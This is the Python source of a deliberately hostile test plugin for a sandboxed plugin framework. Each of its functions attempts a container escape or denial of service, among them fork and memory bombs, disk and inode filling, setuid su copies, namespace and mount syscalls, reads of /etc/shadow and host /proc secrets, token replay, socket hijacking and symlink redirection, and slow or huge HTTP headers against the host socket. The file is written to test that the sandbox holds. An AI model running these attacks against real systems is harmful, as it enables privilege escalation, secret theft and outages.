"""A deliberately malicious plugin: every call tries one way out of its sandbox.

Input ``{"attack": "<name>", ...arguments}``; output ``{"escaped": bool, "detail": str,
"evidence": {...}}``. A refused attempt is the expected outcome, so each attack catches its
own failures and reports what the kernel said (errno names), which is what the tests check.
Only ``memory_bomb`` is meant to take the plugin down. An attack that breaks in a way it did
not plan for answers ``{"escaped": false, "error": ...}`` so the test fails loudly instead of
reading a half-filled report.

The code is plain on purpose: the sandbox must hold against whatever the install-time scanner
would miss, so nothing here tries to hide from it.
"""

from __future__ import annotations

import ctypes
import errno
import glob
import hashlib
import http.client
import json
import os
import shutil
import socket
import stat
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from typing import Any

from summit_sdk import PluginContext, create_plugin

SOCKET_DIR = "/run/summit"
PLUGIN_SOCKET = f"{SOCKET_DIR}/plugin.sock"
MIB = 1 << 20

_EAI_NAMES = {getattr(socket, n): n for n in dir(socket) if n.startswith("EAI_")}
# The hijacked listener must outlive the call that made it.
_KEEP: list[Any] = []


def _why(exc: BaseException) -> str:
    """The errno name of a failure (what a user would read in strerror), else its type."""
    code = getattr(exc, "errno", None)
    if isinstance(exc, socket.gaierror) and code in _EAI_NAMES:
        return _EAI_NAMES[code]
    if isinstance(code, int) and code in errno.errorcode:
        return errno.errorcode[code]
    return type(exc).__name__


def _attempt(action: Callable[[], Any]) -> str:
    try:
        action()
    except OSError as exc:
        return _why(exc)
    return "ok"


def _report(escaped: bool, detail: str, **evidence: Any) -> dict[str, Any]:
    return {"escaped": bool(escaped), "detail": detail, "evidence": evidence}


def _write(path: str, mode: str, text: str = "escaped\n") -> None:
    with open(path, mode) as fh:
        fh.write(text)


def _read(path: str) -> bytes:
    with open(path, "rb") as fh:
        return fh.read()


def _libc_call(fn: Any, *args: Any) -> str:
    ctypes.set_errno(0)
    if fn(*args) == 0:
        return "ok"
    return errno.errorcode.get(ctypes.get_errno(), str(ctypes.get_errno()))


def _status_fields() -> dict[str, str]:
    wanted = ("Uid", "Gid", "Groups", "NoNewPrivs", "Seccomp")
    wanted += ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")
    fields = {}
    for line in _read("/proc/self/status").decode().splitlines():
        key, _, value = line.partition(":")
        if key in wanted:
            fields[key] = " ".join(value.split())
    return fields


# -- attacks ------------------------------------------------------------------------------------


def ping(args: dict[str, Any], ctx: PluginContext) -> dict[str, Any]:
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
    return _report(False, "pong", pid=os.getpid(), processes=len(pids))


def whoami(args: dict[str, Any], ctx: PluginContext) -> dict[str, Any]:
    return _report(False, "identity", url=ctx.host_url, token=ctx.host_token)


def write_rootfs(args: dict[str, Any], ctx: PluginContext) -> dict[str, Any]:
    outcome = {}
    for folder in ("/", "/etc", "/plugin", "/opt/summit", "/usr/bin", "/summit"):
        path = os.path.join(folder, "escape")
        outcome[f"create {path}"] = _attempt(lambda p=path: _write(p, "w"))
    for path in ("/etc/passwd", "/plugin/escape.py"):
        outcome[f"append {path}"] = _attempt(lambda p=path: _write(p, "a"))
    outcome["mkdir /etc/escape.d"] = _attempt(lambda: os.mkdir("/etc/escape.d"))
    outcome["chmod /plugin/escape.py"] = _attempt(lambda: os.chmod("/plugin/escape.py", 0o777))
    done = [what for what, result in outcome.items() if result == "ok"]
    return _report(bool(done), f"succeeded: {done}" if done else "every write refused", **outcome)


def host_view(args: dict[str, Any], ctx: PluginContext) -> dict[str, Any]:
    """Look for the host through every window a container might leave open."""
    pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    environ_1 = _read("/proc/1/environ").split(b"\0")
    reads = {}
    for path in args.get("paths", []):
        for view in (path, f"/proc/1/root{path}", f"/proc/self/root{path}"):
            reads[view] = _attempt(lambda v=view: _read(v))
    leaks = []
    secrets = [s.encode() for s in args.get("secrets", [])]
    for pid in pids:
        for part in ("environ", "cmdline"):
            try:
                data = _read(f"/proc/{pid}/{part}")
            except OSError:
                continue
            leaks += [f"/proc/{pid}/{part}" for s in secrets if s in data]
    opened = [view for view, result in reads.items() if result == "ok"]
    return _report(
        bool(opened or leaks),
        f"read {opened}, secrets in {leaks}" if opened or leaks else "nothing of the host seen",
        hostname=socket.gethostname(),
        pids=pids,
        pid1_cmdline=_read("/proc/1/cmdline").replace(b"\0", b" ").decode().strip(),
        pid1_environ_keys=sorted(e.split(b"=", 1)[0].decode() for e in environ_1 if e),
        shadow=_attempt(lambda: _read("/etc/shadow")),
        reads=reads,
        leaks=leaks,
    )


def fork_bomb(args: dict[str, Any], ctx: PluginContext) -> dict[str, Any]:
    """Fork until the kernel refuses, hold every process for a while, then let them go."""
    hold_s = float(args.get("hold_s", 2.0))
    ceiling = int(args.get("ceiling", 5000))
    release_r, release_w = os.pipe()
    children: list[int] = []
    refusal = None
    tasks_before = len(os.listdir("/proc/self/task"))
    while len(children) < ceiling:
        try:
            pid = os.fork()
        except OSError as exc:
            refusal = _why(exc)
            break
        if pid == 0:
            # Only syscalls from here: the other threads' locks did not come along.
            os.close(release_w)
            try:
                os.read(release_r, 1)
            finally:
                os._exit(0)
        children.append(pid)
    time.sleep(hold_s)
    os.close(release_w)
    for pid in children:
        os.waitpid(pid, 0)
    os.close(release_r)
    return _report(
        refusal is None,
        f"forked {len(children)} processes, then fork failed with {refusal}",
        forked=len(children),
        refusal=refusal,
        tasks_before=tasks_before,
    )


def memory_bomb(args: dict[str, Any], ctx: PluginContext) -> dict[str, Any]:
    hog = []
    while True:
        hog.append(bytearray(8 * MIB))  # zero-filled, so every page is really taken


def cpu_hog(args: dict[str, Any], ctx: PluginContext) -> dict[str, Any]:
    """Spin several threads; hashing big blocks releases the GIL, so they really run at once."""
    threads, seconds = int(args.get("threads", 4)), float(args.get("seconds", 5))
    block = os.urandom(MIB)
    stop = time.monotonic() + seconds
    rounds = [0] * threads

    def spin(i: int) -> None:
        while time.monotonic() < stop:
            hashlib.sha256(block).digest()
            rounds[i] += 1

    workers = [threading.Thread(target=spin, args=(i,)) for i in range(threads)]
    cpu0, wall0 = time.process_time(), time.monotonic()
    for w in workers:
        w.start()
    for w in workers:
        w.join()
    cpu, wall = time.process_time() - cpu0, time.monotonic() - wall0
    return _report(
        False,
        f"{threads} threads used {cpu:.2f}s of CPU in {wall:.2f}s",
        cpu_s=cpu,
        wall_s=wall,
        rounds=rounds,
    )


def _fill(path: str, max_mb: int) -> tuple[int, str | None]:
    chunk = b"\xa5" * MIB
    written, refusal = 0, None
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
    try:
        while written < max_mb * MIB:
            written += os.write(fd, chunk)
    except OSError as exc:
        refusal = _why(exc)
    finally:
        os.close(fd)
        os.unlink(path)
    return written, refusal


def fill_tmp(args: dict[str, Any], ctx: PluginContext) -> dict[str, Any]:
    written, refusal = _fill("/tmp/escape-fill", int(args.get("max_mb", 64)))
    return _report(
        refusal is None,
        f"wrote {written} bytes to /tmp, then {refusal}",
        written=written,
        refusal=refusal,
    )


def fill_socket_dir(args: dict[str, Any], ctx: PluginContext) -> dict[str, Any]:
    """The socket folder is the one host path a plugin may write to: how much will it take?"""
    max_mb = int(args.get("max_mb", 64))
    written, refusal = _fill(f"{SOCKET_DIR}/escape-fill", max_mb)
    return _report(
        written >= max_mb * MIB,
        f"wrote {written} bytes to the host's disk through {SOCKET_DIR}, then {refusal}",
        written=written,
        refusal=refusal,
    )


def _run(argv: list[str]) -> str:
    try:
        done = subprocess.run(argv, capture_output=True, timeout=10, check=False)
    except OSError as exc:
        return _why(exc)
    if done.returncode == 0:
        return "ran"
    return f"exit {done.returncode}: {done.stderr.decode(errors='replace').strip()[:200]}"


def exec_dropped(args: dict[str, Any], ctx: PluginContext) -> dict[str, Any]:
    """Drop a script and a copy of a real binary in each writable folder and try to run them,
    directly and through the dynamic loader (which maps the file instead of exec'ing it)."""
    loaders = sorted(glob.glob("/lib64/ld-linux*.so*") + glob.glob("/lib/ld-linux*.so*"))
    outcome: dict[str, dict[str, str]] = {}
    for folder in args.get("folders", ["/tmp", "/dev/shm"]):
        script, binary = f"{folder}/escape.sh", f"{folder}/escape-true"
        try:
            _write(script, "w", "#!/bin/sh\necho escaped\n")
            shutil.copy("/bin/true", binary)
            for path in (script, binary):
                os.chmod(path, 0o755)
        except OSError as exc:
            outcome[folder] = {"drop": _why(exc)}
            continue
        try:
            outcome[folder] = {"script": _run([script]), "binary": _run([binary])}
            if loaders:
                outcome[folder]["loader"] = _run([loaders[0], binary])
        finally:
            for path in (script, binary):
                os.unlink(path)
    ran = [f"{folder} {how}" for folder, r in outcome.items() for how, v in r.items() if v == "ran"]
    return _report(bool(ran), f"ran: {ran}" if ran else "nothing dropped would run", **outcome)


def network(args: dict[str, Any], ctx: PluginContext) -> dict[str, Any]:
    routes = _read("/proc/net/route").decode().splitlines()[1:]
    routes6 = [r for r in _read("/proc/net/ipv6_route").decode().splitlines() if r.strip()]
    connects = {}
    for host, port in args.get("targets", []):
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        started = time.monotonic()
        with socket.socket(family, socket.SOCK_STREAM) as s:
            s.settimeout(float(args.get("timeout_s", 3)))
            result = _attempt(lambda s=s, h=host, p=port: s.connect((h, p)))
        connects[f"{host}:{port}"] = {
            "result": "connected" if result == "ok" else result,
            "ms": round((time.monotonic() - started) * 1000, 1),
        }

    def udp() -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(b"\0" * 12, ("1.1.1.1", 53))

    def raw(family: int, proto: int) -> Callable[[], None]:
        return lambda: socket.socket(family, socket.SOCK_RAW, proto).close()

    others = {
        "udp 1.1.1.1:53": _attempt(udp),
        "raw icmp socket": _attempt(raw(socket.AF_INET, socket.IPPROTO_ICMP)),
        "packet socket": _attempt(raw(socket.AF_PACKET, 0)),
    }
    reached = [t for t, c in connects.items() if c["result"] == "connected"]
    reached += [what for what, result in others.items() if result == "ok"]
    return _report(
        bool(reached),
        f"reached {reached}" if reached else "no connection could be made",
        interfaces=[name for _, name in socket.if_nameindex()],
        routes=routes,
        routes6=routes6,
        connects=connects,
        others=others,
    )


def dns(args: dict[str, Any], ctx: PluginContext) -> dict[str, Any]:
    answers = {}
    for name in args.get("names", []):
        started = time.monotonic()
        try:
            infos = socket.getaddrinfo(name, 443, proto=socket.IPPROTO_TCP)
            result: Any = sorted({str(info[4][0]) for info in infos})
        except OSError as exc:
            result = _why(exc)
        answers[name] = {"result": result, "ms": round((time.monotonic() - started) * 1000, 1)}
    resolved = [n for n, a in answers.items() if isinstance(a["result"], list)]
    return _report(bool(resolved), f"resolved {resolved}", answers=answers)


def _connect_unix(path: str) -> None:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.settimeout(3)
        s.connect(path)


def other_plugin(args: dict[str, Any], ctx: PluginContext) -> dict[str, Any]:
    """Try the host paths of another plugin's socket folder, which the test read from Docker."""
    attempts = {}
    for path in args.get("paths", []):
        attempts[f"stat {path}"] = _attempt(lambda p=path: os.stat(p))
        if path.endswith(".sock"):
            attempts[f"connect {path}"] = _attempt(lambda p=path: _connect_unix(p))
    # Relative climbs stay inside the container's own tree; they are tried for completeness.
    for climb in ("../../", "../../../../../../"):
        for name in args.get("names", []):
            path = f"{SOCKET_DIR}/{climb}{name}"
            attempts[f"stat {path}"] = _attempt(lambda p=path: os.stat(p))
    reached = [what for what, result in attempts.items() if result == "ok"]
    return _report(
        bool(reached),
        f"reached {reached}" if reached else "nothing of the other plugin is visible",
        listing=sorted(os.listdir(SOCKET_DIR)),
        mountinfo=_read("/proc/self/mountinfo").decode(),
        attempts=attempts,
    )


class _UnixHTTPConnection(http.client.HTTPConnection):
    def __init__(self, path: str) -> None:
        super().__init__("host", timeout=10)
        self._path = path

    def connect(self) -> None:
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.settimeout(10)
        self.sock.connect(self._path)


def _host_status(url: str, token: str | None) -> int:
    conn = _UnixHTTPConnection(url.removeprefix("unix://"))
    headers = {"Authorization": f"Bearer {token}"} if token is not None else {}
    try:
        conn.request("GET", "/host/v1/storage/kv/escape-probe", headers=headers)
        return conn.getresponse().status
    finally:
        conn.close()


def host_token(args: dict[str, Any], ctx: PluginContext) -> dict[str, Any]:
    """Present tokens that are not this plugin's own on its own host socket."""
    url = ctx.host_url or f"unix://{SOCKET_DIR}/host.sock"
    statuses = {"own": _host_status(url, ctx.host_token)}
    for label, token in args.get("tokens", {}).items():
        statuses[label] = _host_status(url, token)
    accepted = [label for label, status in statuses.items() if label != "own" and status != 401]
    return _report(bool(accepted), f"accepted: {accepted}", statuses=statuses)


def _host_socket(ctx: PluginContext) -> str:
    return (ctx.host_url or f"unix://{SOCKET_DIR}/host.sock").removeprefix("unix://")


def _peer_closed(sock: socket.socket) -> bool:
    timeout = sock.gettimeout()
    sock.setblocking(False)  # a socket with a timeout would wait for data despite MSG_DONTWAIT
    try:
        # Bytes still unread (the rest of an answer) are not the peer's close: read past
        # them to the end of what arrived, and only an end of stream counts.
        while sock.recv(65536):
            pass
        return True
    except BlockingIOError:
        return False
    except ConnectionResetError:
        return True
    finally:
        sock.settimeout(timeout)


def hold_host_connections(args: dict[str, Any], ctx: PluginContext) -> dict[str, Any]:
    """Open ``count`` idle connections to our host socket, send nothing, and count how many
    the orchestrator keeps: at once (``settle_s``) and after ``hold_s`` more."""
    count, path = int(args.get("count", 1500)), _host_socket(ctx)
    socks: list[socket.socket] = []
    refusal = None
    started = time.monotonic()
    try:
        for _ in range(count):
            try:
                sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            except OSError as exc:
                refusal = _why(exc)
                break
            try:
                sock.settimeout(10)
                sock.connect(path)
            except OSError as exc:
                sock.close()
                refusal = _why(exc)
                break
            socks.append(sock)
        if refusal == "EMFILE":
            # Give the plugin's own server room to answer its health probes meanwhile.
            for sock in socks[-50:]:
                sock.close()
            del socks[-50:]
        open_s = time.monotonic() - started
        time.sleep(float(args.get("settle_s", 1.0)))
        open_now = [sock for sock in socks if not _peer_closed(sock)]
        request_status = None
        if open_now:
            conn = _UnixHTTPConnection(path)
            conn.sock = open_now[0]
            conn.request("GET", "/host/v1/storage/kv/escape-probe", headers=_bearer(ctx))
            answer = conn.getresponse()
            answer.read()
            request_status = answer.status
        time.sleep(float(args.get("hold_s", 0)))
        still_open = sum(not _peer_closed(sock) for sock in socks)
    finally:
        for sock in socks:
            sock.close()
    held = len(open_now)
    return _report(
        held > int(args.get("expect_at_most", 64)),
        f"opened {len(socks)} ({refusal}); the host kept {held}, then {still_open}",
        opened=len(socks),
        open_s=round(open_s, 3),
        refusal=refusal,
        closed_at_once=len(socks) - held,
        held=held,
        request_on_held=request_status,
        still_open=still_open,
    )


def _bearer(ctx: PluginContext) -> dict[str, str]:
    return {"Authorization": f"Bearer {ctx.host_token}"} if ctx.host_token else {}


def _send_head(ctx: PluginContext, lines: Callable[[], Any], read_s: float) -> dict[str, Any]:
    """Send the request head that ``lines()`` yields from a thread, read the answer meanwhile:
    its status, whether the host closed, the bytes sent, and how long it took."""
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.connect(_host_socket(ctx))
    sent, send_error = 0, None

    def send() -> None:
        nonlocal sent, send_error
        try:
            for line in lines():
                sock.sendall(line)
                sent += len(line)
        except OSError as exc:
            send_error = _why(exc)

    started = time.monotonic()
    sender = threading.Thread(target=send, daemon=True)
    sender.start()
    answer, closed, read_error = b"", False, None
    sock.settimeout(read_s)
    try:
        while True:
            chunk = sock.recv(65536)
            if not chunk:
                closed = True
                break
            answer += chunk
    except ConnectionResetError:
        closed = True
    except OSError as exc:
        read_error = _why(exc)
    took = time.monotonic() - started
    sock.close()
    sender.join(5)
    status_line = answer.split(b"\r\n", 1)[0].decode("latin-1")
    status = int(status_line.split()[1]) if status_line.startswith("HTTP/") else None
    return {
        "status": status,
        "closed": closed,
        "sent": sent,
        "send_error": send_error,
        "read_error": read_error,
        "took_s": round(took, 3),
    }


def huge_host_header(args: dict[str, Any], ctx: PluginContext) -> dict[str, Any]:
    """Stream ``mib`` MiB of one request header to our host socket as fast as it is read."""
    total = int(float(args.get("mib", 1)) * MIB)

    def lines() -> Any:
        yield b"GET /host/v1/storage/kv/escape-probe HTTP/1.1\r\nHost: host\r\nX-Pad: "
        for _ in range(total // (16 * 1024)):
            yield b"a" * (16 * 1024)

    seen = _send_head(ctx, lines, float(args.get("read_s", 15)))
    return _report(seen["sent"] >= total, f"sent {seen['sent']} bytes of header", **seen)


def slow_host_header(args: dict[str, Any], ctx: PluginContext) -> dict[str, Any]:
    """Send a request head to our host socket one header line every ``every_s`` seconds."""
    every_s, max_s = float(args.get("every_s", 0.5)), float(args.get("max_s", 20))

    def lines() -> Any:
        yield b"GET /host/v1/storage/kv/escape-probe HTTP/1.1\r\nHost: host\r\n"
        for i in range(int(max_s / every_s)):
            time.sleep(every_s)
            yield b"X-Slow-%d: 1\r\n" % i

    seen = _send_head(ctx, lines, max_s + 5)
    detail = f"host answered {seen['status']} after {seen['took_s']}s"
    return _report(not seen["closed"], detail, **seen)


def many_files(args: dict[str, Any], ctx: PluginContext) -> dict[str, Any]:
    """Create up to ``count`` empty files in each folder: inodes cost the host memory."""
    count = int(args.get("count", 10_000))
    outcome = {}
    for folder in args.get("folders", ["/tmp", SOCKET_DIR]):
        created, refusal = 0, None
        try:
            for i in range(count):
                os.close(os.open(f"{folder}/escape-{i}", os.O_WRONLY | os.O_CREAT, 0o600))
                created += 1
        except OSError as exc:
            refusal = _why(exc)
        finally:
            for i in range(created):
                os.unlink(f"{folder}/escape-{i}")
        outcome[folder] = {"created": created, "refusal": refusal}
    full = [folder for folder, seen in outcome.items() if seen["created"] >= count]
    return _report(bool(full), f"{count} files in {full}" if full else "refused", **outcome)


def _uids_while_running(argv: list[str]) -> str:
    """Start a setuid program that waits for a password and read its uids meanwhile."""
    proc = subprocess.Popen(
        argv, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE
    )
    try:
        # Popen returns once exec has happened, so the status already shows the new program.
        for line in _read(f"/proc/{proc.pid}/status").decode().splitlines():
            if line.startswith("Uid:"):
                return " ".join(line.split()[1:])
        return "no Uid line"
    finally:
        proc.kill()
        proc.communicate()


def setuid(args: dict[str, Any], ctx: PluginContext) -> dict[str, Any]:
    found = set()
    for path in glob.glob("/usr/bin/*") + glob.glob("/usr/sbin/*"):
        st = os.stat(path)
        if stat.S_ISREG(st.st_mode) and st.st_mode & stat.S_ISUID and st.st_uid == 0:
            found.add(path)
    uids = {}
    for argv in (["su", "root", "-c", "id"], ["passwd"], ["newgrp", "root"]):
        path = shutil.which(argv[0])
        if path in found:
            uids[path] = _uids_while_running([path, *argv[1:]])
    # A copy keeps the setuid bit only for its owner (us), in the one folder that allows exec.
    copy = f"{SOCKET_DIR}/escape-su"
    try:
        shutil.copy("/usr/bin/su", copy)
        os.chmod(copy, 0o4755)
        uids[copy] = _uids_while_running([copy, "root", "-c", "id"])
    except OSError as exc:
        uids[copy] = _why(exc)
    finally:
        if os.path.exists(copy):
            os.unlink(copy)
    effective = {path: u.split()[1] if " " in u else u for path, u in uids.items()}
    rooted = [path for path, euid in effective.items() if euid == "0"]
    return _report(
        bool(rooted),
        f"root through {rooted}" if rooted else "every setuid program kept our uid",
        setuid_root_binaries=sorted(found),
        uids=uids,
        effective=effective,
        setuid_0=_attempt(lambda: os.setuid(0)),
        setgroups_0=_attempt(lambda: os.setgroups([0])),
        status=_status_fields(),
    )


def privileges(args: dict[str, Any], ctx: PluginContext) -> dict[str, Any]:
    """Capabilities, runtime sockets, privileged syscalls, kernel knobs and our own limits."""
    libc = ctypes.CDLL(None, use_errno=True)
    sockets = (
        "/var/run/docker.sock",
        "/run/docker.sock",
        "/run/containerd/containerd.sock",
        "/var/run/containerd/containerd.sock",
        "/run/podman/podman.sock",
    )
    syscalls = {
        "unshare(CLONE_NEWUSER)": _libc_call(libc.unshare, 0x10000000),
        "unshare(CLONE_NEWNS)": _libc_call(libc.unshare, 0x00020000),
        "mount tmpfs on /mnt": _libc_call(libc.mount, b"none", b"/mnt", b"tmpfs", 0, None),
        "chroot /tmp": _libc_call(libc.chroot, b"/tmp"),
        "sethostname": _libc_call(libc.sethostname, b"escaped", 7),
        "mknod block device": _attempt(
            lambda: os.mknod("/tmp/escape-sda", stat.S_IFBLK | 0o600, os.makedev(8, 0))
        ),
    }
    knobs = (
        "/proc/sys/kernel/core_pattern",
        "/proc/sysrq-trigger",
        "/sys/kernel/uevent_helper",
        "/proc/sys/vm/drop_caches",
    )
    # Raising our own limits, in the cgroup v1 and v2 layouts.
    limits = {
        "/sys/fs/cgroup/memory/memory.limit_in_bytes": "-1",
        "/sys/fs/cgroup/memory/memory.memsw.limit_in_bytes": "-1",
        "/sys/fs/cgroup/pids/pids.max": "max",
        "/sys/fs/cgroup/cpu/cpu.cfs_quota_us": "-1",
        "/sys/fs/cgroup/memory.max": "max",
        "/sys/fs/cgroup/pids.max": "max",
        "/sys/fs/cgroup/cpu.max": "max",
    }
    writes = {}
    for path in knobs:
        writes[path] = _attempt(lambda p=path: _write(p, "w"))
    for path, value in limits.items():
        if os.path.exists(path):
            writes[path] = _attempt(lambda p=path, v=value: _write(p, "w", v))
    status = _status_fields()
    present = [path for path in sockets if os.path.exists(path)]
    gained = [what for what, result in {**syscalls, **writes}.items() if result == "ok"]
    caps = any(
        int(status.get(k, "0"), 16) for k in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")
    )
    return _report(
        bool(present or gained or caps),
        f"sockets {present}, allowed {gained}, capabilities {caps}",
        status=status,
        sockets={path: os.path.exists(path) for path in sockets},
        syscalls=syscalls,
        writes=writes,
    )


def log_flood(args: dict[str, Any], ctx: PluginContext) -> dict[str, Any]:
    total = int(args.get("mb", 24)) * MIB
    chunk = (b"x" * 1023 + b"\n") * 64
    written = 0
    started = time.monotonic()
    while written < total:
        written += os.write(1, chunk[: total - written])
    os.write(1, f"{args.get('marker', 'flood done')}\n".encode())
    return _report(
        False,
        f"wrote {written} bytes to stdout in {time.monotonic() - started:.1f}s",
        written=written,
    )


def hijack_socket(args: dict[str, Any], ctx: PluginContext) -> dict[str, Any]:
    """Take over our own plugin socket and answer the orchestrator's health probes (a new
    connection each time) with a chunked body that never ends. The body stops after ``mb``
    so a test run cannot take the machine down; other requests are hung up on."""
    budget = [int(args.get("mb", 256)) * MIB]
    lock = threading.Lock()
    os.unlink(PLUGIN_SOCKET)
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(PLUGIN_SOCKET)
    server.listen(16)
    _KEEP.append(server)

    def flood(conn: socket.socket) -> None:
        piece = b"[" * 65536
        frame = b"%x\r\n%s\r\n" % (len(piece), piece)
        try:
            if b"/summit/v1/health" not in conn.recv(65536).split(b"\r\n", 1)[0]:
                return
            conn.sendall(b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\n")
            conn.sendall(b"transfer-encoding: chunked\r\n\r\n")
            while True:
                with lock:
                    if budget[0] <= 0:
                        return
                    budget[0] -= len(piece)
                conn.sendall(frame)
        except OSError:
            pass
        finally:
            conn.close()

    def serve() -> None:
        while True:
            conn, _ = server.accept()
            threading.Thread(target=flood, args=(conn,), daemon=True).start()

    threading.Thread(target=serve, daemon=True).start()
    return _report(False, f"answering health probes on {PLUGIN_SOCKET} without end")


def redirect_socket(args: dict[str, Any], ctx: PluginContext) -> dict[str, Any]:
    """Replace our plugin socket by a link to a host path: the link is resolved by whoever
    connects, and the orchestrator connects from the host."""
    target = str(args["target"])
    os.unlink(PLUGIN_SOCKET)
    os.symlink(target, PLUGIN_SOCKET)
    return _report(False, f"{PLUGIN_SOCKET} now points at {target}")


class _RawAnswer:
    """An output whose JSON text goes on the wire exactly as given (see ``deep_answer``)."""

    def __init__(self, text: bytes) -> None:
        self.text = text


def _passing_raw_answers(encode: Callable[[Any], bytes]) -> Callable[[Any], bytes]:
    def dumps(obj: Any) -> bytes:
        output = obj.get("output") if isinstance(obj, dict) else None
        if isinstance(output, _RawAnswer):
            return b'{"output":' + output.text + b"}"
        return encode(obj)

    dumps.raw_answers = True  # type: ignore[attr-defined]
    return dumps


def deep_answer(args: dict[str, Any], ctx: PluginContext) -> Any:
    """Answer ``{"output": [[[...]]]}`` nested ``depth`` levels (default 100,000). No JSON
    encoder writes that, so the SDK's encoder is wrapped to send a raw answer's bytes as they
    are; every other answer is encoded as before. The runtime runs as ``__main__``
    (``python -m summit_sdk.runtime``), a module apart from ``summit_sdk.runtime``.

    With ``only`` (a plugin id) the other copies of this plugin answer a plain report, so one
    fan-out can hold the deep answer and a sound one."""
    manifest = os.environ.get("SUMMIT_PLUGIN_MANIFEST") or "/summit/plugin.json"
    with open(manifest, encoding="utf-8") as fh:
        own_id = json.load(fh)["id"]
    if args.get("only") not in (None, own_id):
        return _report(False, f"{own_id} answers plainly", plugin=own_id)
    for name in ("__main__", "summit_sdk.runtime"):
        module = sys.modules.get(name)
        encode = getattr(module, "_dumps", None)
        if encode is not None and not getattr(encode, "raw_answers", False):
            module._dumps = _passing_raw_answers(encode)  # type: ignore[union-attr]
    depth = int(args.get("depth", 100_000))
    return _RawAnswer(b"[" * depth + b"]" * depth)


ATTACKS: dict[str, Callable[[dict[str, Any], PluginContext], dict[str, Any]]] = {
    f.__name__: f
    for f in (
        ping,
        whoami,
        write_rootfs,
        host_view,
        fork_bomb,
        memory_bomb,
        cpu_hog,
        fill_tmp,
        fill_socket_dir,
        exec_dropped,
        network,
        dns,
        other_plugin,
        host_token,
        hold_host_connections,
        huge_host_header,
        slow_host_header,
        many_files,
        setuid,
        privileges,
        log_flood,
        hijack_socket,
        redirect_socket,
        deep_answer,
    )
}


def attempt(input: Any, ctx: PluginContext) -> Any:
    args = input if isinstance(input, dict) else {}
    name = args.get("attack")
    attack = ATTACKS.get(str(name))
    if attack is None:
        return {"escaped": False, "detail": f"unknown attack {name!r}", "error": "unknown"}
    try:
        return attack(args, ctx)
    except Exception as exc:
        return {
            "escaped": False,
            "detail": f"{name} broke: {type(exc).__name__}: {exc}",
            "error": _why(exc),
        }


plugin = create_plugin().extension("workflow", "try", attempt).build()
